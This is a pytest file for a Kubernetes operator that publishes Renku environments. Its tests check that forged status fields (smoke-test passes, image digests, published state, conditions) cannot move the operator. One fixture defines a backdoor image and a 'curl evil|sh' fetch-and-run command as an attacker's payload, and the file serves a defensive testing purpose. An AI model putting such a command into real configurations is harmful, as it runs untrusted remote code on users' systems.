"""Status is for display: nothing a status writer puts there moves the operator (issue 19, 2-3).

The reconcile pipeline over the in-memory Renku, the real claims client on the emulated API
server, a smoke runner and a registry the tests script. Each test writes what someone with
rights on `globalenvironments/status` could write, and checks what reached Renku.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Collection
from typing import Any, Literal

import pytest

from renku_env_operator.api.spec import GlobalEnvironmentSpec
from renku_env_operator.api.status import (
    GlobalEnvironmentStatus,
    PublishedStatus,
    RenkuEnvironmentState,
    SmokeTestStatus,
)
from renku_env_operator.clients.claims import ClaimError, ClaimsClient
from renku_env_operator.clients.registry_errors import RegistryUnavailableError
from renku_env_operator.config import Settings
from renku_env_operator.domain import conditions as cond
from renku_env_operator.domain import payload
from renku_env_operator.domain.images import ImageConfig, ImageFacts, ImageReference, Platform
from renku_env_operator.services.image_verify import ImageVerifier
from renku_env_operator.services.objects import ObjectState
from renku_env_operator.services.reconciler import Outcome, Reconciler
from renku_env_operator.services.retiring import Retirer
from renku_env_operator.services.smoke_gate import session_fingerprint
from renku_env_operator.services.work import ObjectRef, Work
from tests.support.claims import NAMESPACE, stored_claims
from tests.support.kube import Kube
from tests.support.memory_renku import MemoryRenku, publisher_for
from tests.support.renku_double import new_ulid
from tests.support.smoke_runner import Runner
from tests.support.work import event_reasons, work_for

IMAGE = "ghcr.io/example/env:1.0.0"
DIGEST = "sha256:" + "a" * 64
FORGED_DIGEST = "sha256:" + "e" * 64
REF = ObjectRef(namespace=NAMESPACE, name="python", uid="uid-1", generation=1)
RAW_SPEC: dict[str, Any] = {"image": IMAGE, "imagePolicy": {"pinDigest": True}}
SPEC = GlobalEnvironmentSpec.model_validate(RAW_SPEC)
PINNED = f"{IMAGE}@{DIGEST}"
EVIL_IMAGE, EVIL_COMMAND = "evil.example/backdoor:1", ["sh", "-c", "curl evil|sh"]


def verdict(result: Literal["Passed", "Failed"]) -> Runner:
    """A smoke runner whose every test ends `result`."""

    def answer(ref: ObjectRef, image: str) -> SmokeTestStatus:
        passed = result == "Passed"
        return SmokeTestStatus(
            result=result,
            reason="Ready" if passed else "CrashedOnStart",
            message=f"the session {'served' if passed else 'crashed'}",
            image=image,
            generation=ref.generation,
            finished_at="2026-12-07T10:00:00Z",
        )

    return Runner(answer)


class Registry:
    """One image, one digest; counts look-ups; down while `down` is set."""

    def __init__(self) -> None:
        self.inspected = 0
        self.down = False

    async def inspect(
        self, ref: ImageReference, node_architectures: Collection[str] | None = None
    ) -> ImageFacts:
        self.inspected += 1
        if self.down:
            raise RegistryUnavailableError("ghcr.io did not answer (ConnectError)")
        config = ImageConfig(User="1000:1000", ExposedPorts={"8888/tcp": {}})
        platform = Platform(os="linux", architecture="amd64")
        return ImageFacts(digest=DIGEST, platforms=[platform], config=config)

    async def list_tags(self, ref: ImageReference) -> list[str]:
        return ["1.0.0"]


class Operator:
    """One operator process: its reconciler and its records of each object."""

    def __init__(self, renku: MemoryRenku, claims: ClaimsClient, runner: Runner) -> None:
        self.runner, self.registry = runner, Registry()
        settings = Settings(operator_namespace=NAMESPACE, image_check_interval_seconds=3600)

        async def architectures() -> Collection[str]:
            return {"amd64"}

        images = ImageVerifier(settings, self.registry, architectures)
        self.publisher = publisher_for(renku, claims)
        self.reconciler = Reconciler(settings, self.publisher, images, runner)
        self.memo = ObjectState(REF.uid)

    async def start(self, *existing: dict[str, Any]) -> None:
        async def listed() -> list[dict[str, Any]]:
            return list(existing)

        await self.publisher.ownership.start(listed)

    async def reconcile(
        self, status: GlobalEnvironmentStatus, raw_spec: dict[str, Any] = RAW_SPEC
    ) -> Outcome:
        return await self.reconciler.reconcile(REF, raw_spec, status, self.memo)


async def published_once(renku: MemoryRenku, claims: ClaimsClient) -> tuple[Operator, Outcome]:
    """A first operator process that tests (passed) and publishes the object."""
    first = Operator(renku, claims, verdict("Passed"))
    await first.start()
    return first, await first.reconcile(GlobalEnvironmentStatus())


def condition(outcome: Outcome, type_: str) -> tuple[str, str]:
    found = cond.find(outcome.status.conditions, type_)
    assert found is not None
    return found.status, found.reason


def renku_writes(renku: MemoryRenku) -> list[str]:
    return [call for call in renku.log if call in ("POST", "PATCH", "DELETE")]


def forged_pass(image: str = PINNED, workdir: str | None = None) -> SmokeTestStatus:
    """A passed verdict with the session fingerprint anyone can compute from the spec."""
    return SmokeTestStatus(
        result="Passed",
        reason="Ready",
        message="forged",
        image=image,
        generation=REF.generation,
        session=session_fingerprint(SPEC, image, workdir, None),
        finished_at="2999-01-01T00:00:00Z",
    )


# ---------------------------------------------------------------- finding 3: the verdicts


async def test_a_passed_smoke_test_written_into_status_is_not_believed(
    renku: MemoryRenku, claims: ClaimsClient
) -> None:
    op = Operator(renku, claims, verdict("Failed"))
    await op.start()

    outcome = await op.reconcile(GlobalEnvironmentStatus(smoke_test=forged_pass()))

    assert op.runner.calls == 1  # tested, whatever the status said
    assert condition(outcome, cond.SMOKE_TESTED) == ("False", "SmokeTestFailed")
    assert renku.envs == {}
    assert renku_writes(renku) == []
    assert outcome.status.smoke_test is not None
    assert outcome.status.smoke_test.result == "Failed"  # status shows the operator's verdict


async def test_a_verdict_forged_between_passes_changes_nothing(
    renku: MemoryRenku, claims: ClaimsClient
) -> None:
    op = Operator(renku, claims, verdict("Failed"))
    await op.start()
    first = await op.reconcile(GlobalEnvironmentStatus())
    assert condition(first, cond.SMOKE_TESTED) == ("False", "SmokeTestFailed")

    forged = first.status.model_copy(update={"smoke_test": forged_pass()})
    again = await op.reconcile(forged)

    assert condition(again, cond.SMOKE_TESTED) == ("False", "SmokeTestFailed")
    assert renku.envs == {}
    assert again.status.smoke_test is not None
    assert again.status.smoke_test.result == "Failed"  # the forged Passed is overwritten


async def test_a_digest_written_into_status_is_never_pinned(
    renku: MemoryRenku, claims: ClaimsClient
) -> None:
    op = Operator(renku, claims, verdict("Passed"))
    await op.start()
    first = await op.reconcile(GlobalEnvironmentStatus())
    assert first.status.image is not None
    assert first.status.image.digest == DIGEST
    [renku_id] = renku.envs
    assert renku.envs[renku_id]["container_image"] == PINNED

    # Between registry checks (the interval is an hour), the status's image facts are forged.
    facts = first.status.image.model_copy(update={"digest": FORGED_DIGEST})
    forged = first.status.model_copy(
        update={"image": facts, "smoke_test": forged_pass(f"{IMAGE}@{FORGED_DIGEST}")}
    )
    again = await op.reconcile(forged)

    assert op.registry.inspected == 1  # not asked again: the record's facts stand
    assert again.status.image is not None
    assert again.status.image.digest == DIGEST  # status mirrors the record again
    assert renku.envs[renku_id]["container_image"] == PINNED
    assert renku_writes(renku) == ["POST"]


async def test_a_restarted_operator_believes_a_pass_its_claim_records(
    renku: MemoryRenku, claims: ClaimsClient
) -> None:
    first, published = await published_once(renku, claims)
    assert condition(published, cond.SYNCED)[0] == "True"
    assert first.runner.calls == 1

    restarted = Operator(renku, claims, verdict("Failed"))  # a new process, empty records
    await restarted.start()
    outcome = await restarted.reconcile(published.status)

    assert restarted.runner.calls == 0  # no retest storm on every restart
    assert condition(outcome, cond.SMOKE_TESTED)[0] == "True"
    assert condition(outcome, cond.SYNCED)[0] == "True"
    assert renku_writes(renku) == ["POST"]


async def test_after_a_restart_a_pass_the_claim_does_not_record_is_tested_again(
    renku: MemoryRenku, claims: ClaimsClient
) -> None:
    _, published = await published_once(renku, claims)

    # The status claims a pass of another session (a command the record never saw pass).
    raw = RAW_SPEC | {"command": EVIL_COMMAND}
    evil_spec = GlobalEnvironmentSpec.model_validate(raw)
    shown = forged_pass().model_copy(
        update={"session": session_fingerprint(evil_spec, PINNED, None, None)}
    )
    restarted = Operator(renku, claims, verdict("Failed"))
    await restarted.start()
    outcome = await restarted.reconcile(
        published.status.model_copy(update={"smoke_test": shown}), raw
    )

    assert restarted.runner.calls == 1
    assert condition(outcome, cond.SMOKE_TESTED) == ("False", "SmokeTestFailed")
    [env] = renku.envs.values()
    assert env.get("command") != EVIL_COMMAND
    assert renku_writes(renku) == ["POST"]


# ---------------------------------------------------------------- finding 2: migration


def legacy_object(uid: str, renku_id: str, created: str = "2020-01-01T00:00:00Z") -> dict[str, Any]:
    """A GlobalEnvironment as a version without records left it: only its status says."""
    metadata = {"uid": uid, "name": "python", "creationTimestamp": created}
    return {"metadata": metadata, "status": {"renkuId": renku_id}}


def admin_environment(renku: MemoryRenku) -> str:
    """An environment made in Renku's admin panel."""
    renku_id = new_ulid()
    renku.envs[renku_id] = {
        "id": renku_id,
        "name": "Admin's Python",
        "container_image": "ghcr.io/admin/python:3.12",
        "command": ["jupyter"],
    }
    return renku_id


def published_as(image: str, **fields: Any) -> PublishedStatus:
    """status.published as a version without records wrote it (it says what was sent)."""
    spec = GlobalEnvironmentSpec.model_validate({"image": image, **fields})
    declared = payload.declared_state(spec, REF.name, image)
    return PublishedStatus(
        generation=1,
        image=image,
        time="2026-01-01T00:00:00Z",
        fingerprint=payload.fingerprint(declared),
        environment=RenkuEnvironmentState.model_validate(declared),
    )


async def hold_with(op: Operator, status: GlobalEnvironmentStatus) -> Work:
    """A pass whose new spec failed its checks: the publisher holds "the last known good"."""
    work = work_for(REF, status)
    work.memo = op.memo
    await op.publisher.hold(work, SPEC)
    return work


@pytest.mark.parametrize("listed", [True, False])
async def test_a_forged_published_state_is_never_migrated_into_renku(
    renku: MemoryRenku, claims: ClaimsClient, kube: Kube, listed: bool
) -> None:
    renku_id = admin_environment(renku)
    before = dict(renku.envs[renku_id])
    op = Operator(renku, claims, verdict("Passed"))
    # Listed: the object named the id at the upgrade. Not listed: it was made (or its status
    # written) after the records began - in a trusted namespace too (REF's is trusted).
    await op.start(*([legacy_object(REF.uid, renku_id)] if listed else []))
    # status.published says the backdoor is what the operator sent.
    forged = published_as(EVIL_IMAGE, command=EVIL_COMMAND)
    status = GlobalEnvironmentStatus(renku_id=renku_id, published=forged)

    held = await hold_with(op, status)
    found = cond.find(held.conditions, cond.SYNCED)
    assert found is not None
    if listed:
        assert (found.status, found.reason) == ("False", cond.MIGRATION_REFUSED)
        assert "Nothing was changed in Renku" in found.message
    else:
        assert (found.status, found.reason) == ("False", "ForgedStatus")
    assert renku.envs[renku_id] == before
    assert renku_writes(renku) == []
    assert stored_claims(kube, "env") == {}  # nothing recorded, no LastKnownGood from status
    assert "OwnershipMigrated" not in event_reasons(held)


async def test_a_listed_object_unchanged_in_renku_migrates_once(
    renku: MemoryRenku, claims: ClaimsClient, kube: Kube
) -> None:
    renku_id = new_ulid()
    published = published_as("ghcr.io/example/env:0.9.0")
    assert published.environment is not None
    renku.envs[renku_id] = {"id": renku_id, **published.environment.model_dump(by_alias=False)}
    op = Operator(renku, claims, verdict("Passed"))
    await op.start(legacy_object(REF.uid, renku_id))

    outcome = await op.reconcile(GlobalEnvironmentStatus(renku_id=renku_id, published=published))

    assert "OwnershipMigrated" in [e.reason for e in outcome.events]
    assert condition(outcome, cond.SYNCED) == ("True", "Updated")  # the new spec, after checks
    assert renku.envs[renku_id]["container_image"] == PINNED
    assert renku_writes(renku) == ["PATCH"]  # updated in place, never a second environment
    assert list(stored_claims(kube, "env")) == [f"env-{renku_id.lower()}"]


async def test_the_list_of_who_may_migrate_is_made_once(
    renku: MemoryRenku, claims: ClaimsClient, kube: Kube
) -> None:
    renku_id = admin_environment(renku)
    first = Operator(renku, claims, verdict("Passed"))
    await first.start()  # the upgrade: nothing to migrate

    # Later, a status names the admin's environment, and the operator restarts.
    later = Operator(renku, claims, verdict("Passed"))
    await later.start(legacy_object(REF.uid, renku_id))

    assert await later.publisher.ownership.may_migrate(REF, renku_id) == "no"
    [era] = stored_claims(kube, "era").values()
    assert era["spec"]["migration"] == []


@pytest.mark.parametrize("listed", [True, False])
async def test_deleting_an_object_that_never_migrated_retires_nothing(
    renku: MemoryRenku, claims: ClaimsClient, listed: bool
) -> None:
    renku_id = admin_environment(renku)
    op = Operator(renku, claims, verdict("Passed"))
    await op.start(*([legacy_object(REF.uid, renku_id)] if listed else []))
    work = work_for(REF, GlobalEnvironmentStatus(renku_id=renku_id))

    retirer = Retirer(op.publisher.settings, op.publisher.sync)
    assert await retirer.retire(work, {"deletionPolicy": "Archive"}, attempt=1) is None

    assert not renku.envs[renku_id].get("is_archived")
    assert renku_writes(renku) == []
    # Listed (published before the records, never migrated): said to be left in Renku.
    assert event_reasons(work) == (["Orphaned"] if listed else ["ForgedStatus"])
    if listed:
        assert "left in Renku untouched" in work.events[0].message


async def test_an_id_several_statuses_named_at_the_upgrade_is_given_to_none(
    renku: MemoryRenku, claims: ClaimsClient, kube: Kube
) -> None:
    # A team wrote the admin's id into its own object's status before the upgrade too, and
    # copied the environment into its spec (anyone can read Renku's environments).
    renku_id = admin_environment(renku)
    copied = {"image": renku.envs[renku_id]["container_image"], "command": ["jupyter"]}
    op = Operator(renku, claims, verdict("Passed"))
    await op.start(legacy_object(REF.uid, renku_id), legacy_object("uid-team-x", renku_id))
    before = dict(renku.envs[renku_id])

    outcome = await op.reconcile(GlobalEnvironmentStatus(renku_id=renku_id), copied)
    again = await op.reconcile(outcome.status, copied)

    found = cond.find(again.status.conditions, cond.SYNCED)
    assert found is not None
    assert (found.status, found.reason) == ("False", cond.MIGRATION_REFUSED)
    assert "several GlobalEnvironments" in found.message
    assert again.status.renku_id == renku_id  # kept: cleared, a second environment would follow
    assert renku.envs[renku_id] == before
    assert renku_writes(renku) == []
    assert stored_claims(kube, "env") == {}
    assert renku.log.count("GET") <= 1  # refused once, then backed off: no Renku read per pass


async def test_a_marker_from_the_first_version_with_records_gets_its_list_once(
    renku: MemoryRenku, claims: ClaimsClient, kube: Kube
) -> None:
    """Upgrading from the version whose era marker had no list: the objects older than the
    marker may still migrate (that version migrated lazily), newer ones never."""
    await claims.create("ownership-era", {}, {"renku.io/claim": "era"})
    old_id, new_id = new_ulid(), new_ulid()
    op = Operator(renku, claims, verdict("Passed"))
    await op.start(
        legacy_object("uid-old", old_id, created="2020-01-01T00:00:00Z"),
        legacy_object("uid-new", new_id, created="2999-01-01T00:00:00Z"),
    )

    ownership = op.publisher.ownership
    assert await ownership.may_migrate(dataclasses.replace(REF, uid="uid-old"), old_id) == "yes"
    assert await ownership.may_migrate(dataclasses.replace(REF, uid="uid-new"), new_id) == "no"
    [era] = stored_claims(kube, "era").values()
    assert era["spec"]["migration"] == [{"uid": "uid-old", "renkuId": old_id}]

    again = Operator(renku, claims, verdict("Passed"))  # the list is not made twice
    await again.start(legacy_object("uid-later", new_ulid()))
    [era] = stored_claims(kube, "era").values()
    assert era["spec"]["migration"] == [{"uid": "uid-old", "renkuId": old_id}]


async def test_a_restart_while_the_registry_is_down_keeps_what_passed(
    renku: MemoryRenku, claims: ClaimsClient
) -> None:
    _, published = await published_once(renku, claims)

    restarted = Operator(renku, claims, verdict("Failed"))
    restarted.registry.down = True
    await restarted.start()
    outcome = await restarted.reconcile(published.status)

    assert restarted.registry.inspected == 1  # asked at once, and it is down
    assert condition(outcome, cond.IMAGE_VERIFIED)[0] == "True"  # kept what passed
    assert condition(outcome, cond.READY)[0] == "True"
    assert restarted.runner.calls == 0
    [env] = renku.envs.values()
    assert env["container_image"] == PINNED
    assert renku_writes(renku) == ["POST"]


async def test_a_restart_with_claims_unreadable_tests_again_instead_of_believing_status(
    renku: MemoryRenku, claims: ClaimsClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, published = await published_once(renku, claims)

    restarted = Operator(renku, claims, verdict("Passed"))
    await restarted.start()

    async def unreadable(*_: Any, **__: Any) -> Any:
        raise ClaimError("globalenvironmentclaims is forbidden")

    monkeypatch.setattr(restarted.publisher.ownership, "owned", unreadable)
    outcome = await restarted.reconcile(published.status)

    assert restarted.runner.calls == 1  # not believed: tested again
    assert condition(outcome, cond.SMOKE_TESTED) == ("True", "Passed")
    assert condition(outcome, cond.SYNCED) == ("False", "ClaimFailed")  # and said where


async def test_conditions_written_into_status_are_not_read_back(
    renku: MemoryRenku, claims: ClaimsClient
) -> None:
    op = Operator(renku, claims, verdict("Passed"))
    await op.start()
    published = await op.reconcile(GlobalEnvironmentStatus())
    synced_before = cond.find(published.status.conditions, cond.SYNCED)
    assert synced_before is not None

    forged = cond.set_condition(
        published.status.conditions, cond.SYNCED, "True", "InSync", "all fine, see evil.example", 1
    )
    again = await op.reconcile(published.status.model_copy(update={"conditions": forged}))

    synced_after = cond.find(again.status.conditions, cond.SYNCED)
    assert synced_after is not None
    assert (synced_after.reason, synced_after.message) == (
        synced_before.reason,
        synced_before.message,
    )
